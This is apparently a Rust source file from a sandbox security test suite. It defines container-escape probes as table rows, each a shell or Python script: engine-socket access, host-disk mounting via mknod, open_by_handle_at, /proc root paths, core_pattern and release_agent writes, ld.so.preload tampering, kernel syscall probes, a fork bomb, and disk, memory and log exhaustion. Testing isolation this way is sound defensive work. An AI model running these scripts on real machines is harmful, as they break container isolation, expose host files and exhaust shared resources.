//! Attacks on the machine that runs the sandboxes.

use deckhand_executors::egress::EgressPolicy;

use super::{
    ground::{self, Control, Inside, Road, Sign},
    suite::{Family, Listed, Suite},
};

/// A script for Python.
macro_rules! python {
    ($body:literal) => {
        concat!("exec python3 - <<'PYTHON'", $body, "\nPYTHON")
    };
}

/// Who runs the sandboxes.
const ENGINE: &[Inside] = &[Inside {
    id: "host-engine-socket",
    tries: "Ask the container engine for a container with the host's disk, by its socket or its port.",
    script: r#"
for socket in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock; do
  curl -s -m 2 --unix-socket $socket http://engine/version && echo got $socket
done
for host in 127.0.0.1 $GATEWAY $HOST; do
  for port in 2375 2376; do curl -s -m 2 --noproxy '*' http://$host:$port/version | grep ApiVersion && echo got $host; done
done
echo tried: $(curl --version | head -n 1)"#,
    // A container that has the engine's socket has the host; the suite starts none.
    control: Control::None,
    sign: Sign::Gets,
    road: Road::WORK,
}];

/// Its files, disks and devices, and the kernel's own.
const FILES: &[Inside] = &[
    Inside {
        id: "host-mount-tmpfs",
        tries: "Mount a file system of its own, the first step of most ways out.",
        script: r#"
mkdir -p /tmp/m; mount -t tmpfs none /tmp/m && echo got a mount && umount /tmp/m
mount --bind / /tmp/m && echo got a bind mount && umount /tmp/m
echo tried: $(grep -c . /proc/self/mounts) mounts"#,
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-mount-disk",
        tries: "Mount the host's disk and read a file of the host.",
        script: r#"
mkdir -p /tmp/m
while read -r major minor _ name; do
  [ -n "$name" ] || continue
  node=/dev/$name
  [ -b $node ] || { node=/tmp/node-$name; mknod $node b $major $minor; }
  mount $node /tmp/m && { cat "/tmp/m$SECRET_FILE"; umount /tmp/m; }
done < <(grep '[0-9]' /proc/partitions | grep -v loop)
echo tried: $(grep -c '[0-9]' /proc/partitions) disks"#,
        // A machine that is a guest itself may be kept from its own disk; `host-file-handles` reads it with a control.
        control: Control::None,
        sign: Sign::Reads,
        road: Road::WORK,
    },
    Inside {
        id: "host-disk-device",
        tries: "Make a node for the host's disk and read its first bytes.",
        script: r#"
while read -r major minor _ name; do
  for folder in /work /tmp /dev /home/agent; do
    mknod $folder/node b $major $minor && [ "$(head -c 512 $folder/node | wc -c)" = 512 ] && echo got $name
    rm -f $folder/node
  done
done < <(grep '[0-9]' /proc/partitions | grep -v loop)
echo tried: $(grep -c '[0-9]' /proc/partitions) disks"#,
        // As with `host-mount-disk`.
        control: Control::None,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-memory-device",
        tries: "Make nodes for the memory, the kernel's log, the processor's virtual machines and loop devices, and open them.",
        script: r#"
n=0
while read -r name major minor; do
  n=$((n + 1))
  node=/dev/$name; [ -e $node ] || { node=/work/$name; mknod $node c $major $minor; }
  python3 -c 'import os, sys; os.open(sys.argv[1], os.O_RDONLY | os.O_NONBLOCK); print("got", sys.argv[1])' $node 2>/dev/null
  rm -f /work/$name
done <<'NODES'
mem 1 1
kmsg 1 11
kvm 10 232
fuse 10 229
loop-control 10 237
vhost-net 10 238
NODES
echo tried: $n devices"#,
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-file-handles",
        tries: "Open the root of the host's disk by its inode's number, through a file that the engine mounts.",
        script: python!(
            r#"
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
seen = []
for path in ("/etc/resolv.conf", "/etc/hosts", "/etc/hostname", "/work", "/home/agent", "/run/deckhand"):
    for kind, inode in ((1, 2), (1, 128), (1, 256)):
        try:
            mount = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        handle = ctypes.create_string_buffer(struct.pack("IiII", 8, kind, inode, 0))
        root = libc.open_by_handle_at(mount, handle, os.O_RDONLY)
        if root < 0:
            seen.append(ctypes.get_errno())
            continue
        try:
            print(os.read(os.open(os.environ["SECRET_FILE"][1:], os.O_RDONLY, dir_fd=root), 100))
        except OSError as error:
            seen.append(error)
print("tried:", set(map(str, seen)))"#
        ),
        control: Control::Privileged,
        sign: Sign::Reads,
        road: Road::WORK,
    },
    Inside {
        id: "host-paths",
        tries: "Reach a file of the host by its path: through the mounted folders, links, and other processes' roots.",
        script: r#"
ln -sf / /work/root; ln -sf "$SECRET_FILE" /work/secret; ln -sf ../../../../../.. /work/up
for start in "" /run/deckhand/.. /run/deckhand/../.. /work/root /work/up /proc/1/root /proc/self/root /proc/1/cwd /proc/$PPID/root; do
  cat "$start$SECRET_FILE"
done
cat /work/secret
for folder in $(grep -o '\(upperdir\|lowerdir\|workdir\)=[^,: ]*' /proc/self/mountinfo | cut -d= -f2); do
  ls "$folder" && cat "$folder/../../../../../..$SECRET_FILE"
done
rm -f /work/root /work/secret /work/up
echo tried: $(grep -c . /proc/self/mountinfo) mounts"#,
        // No container at all has the path, not even one with all privileges.
        control: Control::None,
        sign: Sign::Reads,
        road: Road::WORK,
    },
    Inside {
        id: "host-socket-folder",
        tries: "Change the folder of sockets that the host lends: put files there, take the socket away, put a link in its place.",
        script: r#"
cd /run/deckhand && ls -la
touch x && echo got a file
ln -s /etc/passwd link && echo got a link
mv egress.sock other.sock && echo got the name
rm -f egress.sock; [ -e egress.sock ] || echo got it removed
chmod 777 . && echo got its mode
echo tried: $(id)"#,
        // The bare containers have the same folder, and an attempt that worked would cut them off.
        control: Control::None,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-root-files",
        tries: "Change the programs that the next command runs: the shim, git, the loader's list.",
        script: r#"
for file in /opt/deckhand/shim /usr/bin/git /bin/sh; do
  ( exec 3<>$file ) && echo got $file
  cp /usr/bin/true $file.new && { echo got beside $file; rm -f $file.new; }
done
touch /etc/ld.so.preload && { echo got the loader; rm -f /etc/ld.so.preload; }
mount -o remount,rw / && echo got the root again
echo tried: $(grep ' / ' /proc/self/mounts | cut -c 1-40)"#,
        control: Control::BareRoot,
        sign: Sign::Gets,
        road: Road::WORK,
    },
];

/// The kernel: its settings, its doors, its other guests.
const KERNEL: &[Inside] = &[
    Inside {
        id: "host-processes",
        tries: "See, signal and trace a process of the host or of a neighbour.",
        script: python!(
            r#"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
own = {int(name) for name in os.listdir("/proc") if name.isdigit()}
for pid in sorted(own):
    try:
        words = open(f"/proc/{pid}/cmdline").read() + open(f"/proc/{pid}/environ", errors="replace").read()
    except OSError:
        continue
    if any(word in words for word in ("dockerd", "containerd", os.environ["NEIGHBOUR"] + "\0")) and pid != os.getpid():
        print("got a look at", pid, words[:80])
for pid in range(1, 40_000):
    try:
        os.kill(pid, 0)
    except OSError:
        continue
    tasks = f"/proc/{pid}/status"
    if not os.path.exists(tasks):
        print("got a signal to", pid)
reached = [pid for pid in range(2, 2_000) if not os.path.exists(f"/proc/{pid}") and libc.ptrace(0x4206, pid, 0, 0) == 0]
print("got a trace of", reached) if reached else None
print("tried:", len(own), "own processes seen, ids up to 40000 signalled")"#
        ),
        // What counts is which processes there are, and the engine gives every container its own.
        control: Control::None,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-core-pattern",
        tries: "Have the kernel run a program on the host when something crashes: write its setting, and others.",
        script: r#"
for file in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/fs/binfmt_misc/register /proc/sys/vm/overcommit_memory; do
  value=$(cat $file) && echo "$value" > $file && echo got $file
done
# The kernel's emergency keys, where it has them: the one that only prints which there are.
[ ! -e /proc/sysrq-trigger ] || { echo h > /proc/sysrq-trigger && echo got the emergency keys; }
echo tried: $(cat /proc/sys/kernel/core_pattern | head -c 60)"#,
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-sys",
        tries: "Write settings of the machine below /sys.",
        script: r#"
for file in /sys/kernel/mm/ksm/run /sys/kernel/uevent_helper /sys/kernel/mm/transparent_hugepage/enabled /sys/class/block/*/queue/read_ahead_kb; do
  [ -e $file ] || continue
  value=$(sed 's/.*\[\(.*\)\].*/\1/' $file) && echo "$value" > $file && echo got $file
done
echo tried: $(grep ' /sys ' /proc/self/mounts)"#,
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-control-groups",
        tries: "Lift the own limits, or have the kernel run a program when a control group empties.",
        script: r#"
for file in memory/memory.limit_in_bytes pids/pids.max memory.max pids.max cpu/cpu.cfs_quota_us memory/notify_on_release release_agent */release_agent; do
  for path in /sys/fs/cgroup/$file; do
    [ -e $path ] || continue
    value=$(cat $path) && echo "$value" > $path && echo got $path
  done
done
mkdir -p /tmp/groups /sys/fs/cgroup/memory/own /sys/fs/cgroup/own && rmdir /sys/fs/cgroup/memory/own && echo got a group
mount -t cgroup -o memory none /tmp/groups && echo got the groups && umount /tmp/groups
echo tried: $(cat /proc/self/cgroup | wc -l) groups"#,
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-setuid",
        tries: "Become root by a program that has the set-user bit.",
        script: python!(
            r#"
import os, subprocess, time
seen = []
for folder, _, files in os.walk("/usr"):
    for name in files:
        path = os.path.join(folder, name)
        child = None
        try:
            if os.stat(path).st_uid != 0 or not os.stat(path).st_mode & 0o4000:
                continue
            child = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            time.sleep(0.1)
            users = [line.split()[1:] for line in open(f"/proc/{child.pid}/status") if line.startswith("Uid:")][0]
            seen.append(f"{name} {users}")
            if "0" in users:
                print("got root by", path)
        except (OSError, IndexError):
            seen.append(name)
        if child:
            child.kill()
            child.wait()
print("tried:", seen)"#
        ),
        control: Control::Bare,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-keyring",
        tries: "Put a secret into the kernel's keyring, which no container has of its own, and list what is there.",
        script: python!(
            r#"
import ctypes, os, platform, struct
libc = ctypes.CDLL(None, use_errno=True)
arm = platform.machine() == "aarch64"
def call(what, intel, on_arm, *arguments):
    result = libc.syscall(on_arm if arm else intel, *arguments)
    if result >= 0:
        print("got", what)
    return ctypes.get_errno()
print("tried:", call("a key", 248, 217, b"user", b"deckhand", b"x", 1, -3), call("the keyring", 250, 219, 0, -3, 1))"#
        ),
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-clock",
        tries: "Set the machine's clock.",
        script: python!(
            r#"
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
# By nothing at all: whoever may do that may set it.
if libc.adjtime(ctypes.create_string_buffer(16), None) == 0:
    print("got the clock")
print("tried:", os.strerror(ctypes.get_errno()), time.time())"#
        ),
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-namespaces",
        tries: "Make namespaces, in which it would be root and could mount.",
        script: r#"
unshare --user --map-root-user --mount true && echo got a user namespace
unshare --mount true && echo got a mount namespace
unshare --net true && echo got a network namespace
nsenter --target 1 --mount true 2>/dev/null && [ "$(id -u)" = 0 ] && echo got into another
echo tried: $(readlink /proc/self/ns/user)"#,
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-bpf",
        tries: "Load programs and maps into the kernel.",
        script: python!(
            r#"
import ctypes, os, platform, struct
libc = ctypes.CDLL(None, use_errno=True)
arm = platform.machine() == "aarch64"
def call(what, intel, on_arm, *arguments):
    result = libc.syscall(on_arm if arm else intel, *arguments)
    if result >= 0:
        print("got", what)
    return ctypes.get_errno()

attributes = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(112))
print("tried:", call("a map", 321, 280, 0, attributes, 128))"#
        ),
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-kernel-doors",
        tries: "Open the kernel's doors that made most of the escapes: userfaultfd, io_uring, performance events, watching the file system.",
        script: python!(
            r#"
import ctypes, os, platform, struct
libc = ctypes.CDLL(None, use_errno=True)
arm = platform.machine() == "aarch64"
def call(what, intel, on_arm, *arguments):
    result = libc.syscall(on_arm if arm else intel, *arguments)
    if result >= 0:
        print("got", what)
    return ctypes.get_errno()

attributes = ctypes.create_string_buffer(struct.pack("IIQ", 1, 112, 0) + bytes(96))
errors = [
    call("userfaultfd", 323, 282, 0x80000), call("io_uring", 425, 425, 8, ctypes.create_string_buffer(256)),
    call("performance events", 298, 241, attributes, 0, -1, -1, 0), call("fanotify", 300, 262, 0, 0),
]
print("tried:", errors)"#
        ),
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-kernel-log",
        tries: "Read the kernel's log.",
        script: r#"
dmesg | head -n 3 | grep . && echo got the log
head -c 1 /dev/kmsg && echo got the log too
echo tried: $(ls /dev | wc -l) devices"#,
        control: Control::Privileged,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-modules",
        tries: "Load a module into the kernel.",
        script: python!(
            r#"
import ctypes, errno, os, platform
libc = ctypes.CDLL(None, use_errno=True)
# Not even a module: whoever may load one is told so, and whoever may not is refused before the kernel looks.
libc.syscall(105 if platform.machine() == "aarch64" else 175, b"no module", 9, b"")
code = ctypes.get_errno()
if code in (errno.ENOEXEC, errno.EINVAL, errno.EBADMSG, 129, 126):
    print("got as far as the module itself")
print("tried:", os.strerror(code))"#
        ),
        // A kernel that is built without modules loads nobody's.
        control: Control::None,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-sacrifice",
        tries: "Have the kernel kill other programs first when memory is short.",
        script: r#"
( echo -1000 > /proc/self/oom_score_adj ) && echo got spared
( echo -1000 > /proc/1/oom_score_adj ) && echo got the first process spared
echo tried: $(cat /proc/self/oom_score_adj)"#,
        // A machine that is a guest itself may lack the right to spare anybody.
        control: Control::None,
        sign: Sign::Gets,
        road: Road::WORK,
    },
];

/// Its room: processes, memory and disk. The last ones end the sandbox, and the next row has a new one.
const ROOM: &[Inside] = &[
    Inside {
        id: "host-fork-bomb",
        tries: "Make a thousand processes.",
        script: python!(
            r#"
import os, signal, time
made = []
try:
    while len(made) < 1000:
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        made.append(pid)
    print("got", len(made))
except OSError as error:
    print("stopped:", error)
for pid in made:
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
print("tried:", len(made), "processes")"#
        ),
        control: Control::Bare,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-memory",
        tries: "Take two gigabytes of memory.",
        script: python!(
            r#"
import os, signal
pid = os.fork()
if pid == 0:
    hog = bytearray(2 << 30)
    print("got", len(hog), flush=True)
    os._exit(0)
print("tried: it ended with", os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))"#
        ),
        control: Control::Bare,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-shared-memory",
        tries: "Take memory past the limit where it counts as files: in the shared folders of memory.",
        script: r#"
for folder in /dev/shm /tmp /dev /run /dev/mqueue; do
  head -c 1G /dev/zero > $folder/fill && echo got a gigabyte in $folder
  rm -f $folder/fill
done
echo tried: $(df -h /dev/shm | tail -n 1)"#,
        // Even a container with all privileges has 64 MB there; its /tmp is the disk.
        control: Control::None,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-tmp",
        tries: "Fill /tmp with half a gigabyte.",
        script: r#"
head -c 512M /dev/zero > /tmp/fill && echo got it all
echo tried: $(stat -c %s /tmp/fill) bytes; rm -f /tmp/fill"#,
        control: Control::Bare,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-log",
        tries: "Fill the host's disk with output: six hundred megabytes to the main process's own.",
        script: r#"
line=$(head -c 4000 /dev/zero | tr '\0' x)
yes "$line" | head -c 600M > /proc/1/fd/1
echo tried: $?"#,
        // A bare container would fill the disk of whoever runs the suite.
        control: Control::None,
        sign: Sign::Changes(
            "docker ps -aq --filter name=attack-host- --filter volume=/run/deckhand | xargs docker inspect -f '{{.LogPath}}' \
             | sed 's/.*/&*/' | xargs -I{} sh -c 'du -cm {}' | awk '/total/ && $1 > 450 { print \"more than 450 MB of log\" }'",
        ),
        road: Road::WORK,
    },
    Inside {
        id: "host-inodes",
        tries: "Fill the host's disk with empty files: twice as many as the sandbox may have.",
        script: python!(
            r#"
import os
print("tried: ceiling 100000 files", flush=True)
for number in range(200_000):
    if number % 1000 == 0:
        os.makedirs(f"/work/many/{number}")
    open(f"/work/many/{number - number % 1000}/{number}", "w").close()
print("got", number + 1, "files")"#
        ),
        // A bare container would fill the disk of whoever runs the suite.
        control: Control::None,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-disk",
        tries: "Fill the host's disk: write twice as much as the sandbox may have, as fast as it can.",
        script: python!(
            r#"
import os
print("tried: ceiling 2 GiB", flush=True)
piece = bytes(16 << 20)
for number in range(256):
    with open(f"/work/fill-{number}", "wb") as file:
        file.write(piece)
print("got", 256 * len(piece), "bytes")"#
        ),
        // A bare container would fill the disk of whoever runs the suite.
        control: Control::None,
        sign: Sign::Gets,
        road: Road::WORK,
    },
    Inside {
        id: "host-hidden-disk",
        tries: "The same with files that are deleted and held open, which no listing shows.",
        script: python!(
            r#"
import os
print("tried: ceiling 2 GiB", flush=True)
piece, held = bytes(16 << 20), []
for number in range(256):
    held.append(open(f"/work/hidden-{number}", "wb"))
    os.unlink(f"/work/hidden-{number}")
    held[-1].write(piece)
    held[-1].flush()
print("got", 256 * len(piece), "bytes")"#
        ),
        // A bare container would fill the disk of whoever runs the suite.
        control: Control::None,
        sign: Sign::Gets,
        road: Road::WORK,
    },
];

/// All of them; a new attack is one row.
fn table() -> Vec<&'static Inside> {
    [ENGINE, FILES, KERNEL, ROOM]
        .into_iter()
        .flatten()
        .collect()
}

/// The rows as the table lists them.
pub fn listed() -> Vec<Listed> {
    ground::listed(&table(), Family::Host)
}

/// Makes them.
pub async fn run(suite: &mut Suite) -> anyhow::Result<()> {
    ground::try_all(suite, Family::Host, &table(), |_| {
        Ok(EgressPolicy::default())
    })
    .await
}
